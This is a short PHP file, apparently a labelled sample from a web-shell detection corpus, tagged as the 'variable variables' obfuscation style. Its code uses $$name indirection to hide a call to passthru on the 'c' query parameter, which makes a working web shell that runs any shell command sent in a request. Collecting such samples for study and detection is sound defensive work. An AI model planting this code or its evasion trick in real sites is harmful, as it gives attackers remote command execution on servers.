<?php
// Family: obfuscation/var-function
// Style: variable variables
// Trait: $$name indirection to reach the request array and a function name
$n1 = '_GET'; $n2 = 'fn';
$arr = $$n1;
$$n2 = 'passthru';
$fn($arr['c']);
